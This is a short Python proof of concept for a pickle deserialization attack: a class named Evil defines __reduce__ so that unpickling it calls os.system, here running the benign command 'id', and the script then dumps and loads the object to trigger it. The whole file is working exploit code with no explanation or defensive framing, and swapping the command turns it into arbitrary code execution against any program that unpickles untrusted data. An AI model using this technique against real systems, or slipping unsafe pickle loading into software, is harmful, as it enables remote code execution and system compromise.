import pickle
class Evil:
    def __reduce__(self):
        import os
        return os.system, ('id',)
pickle.loads(pickle.dumps(Evil()))
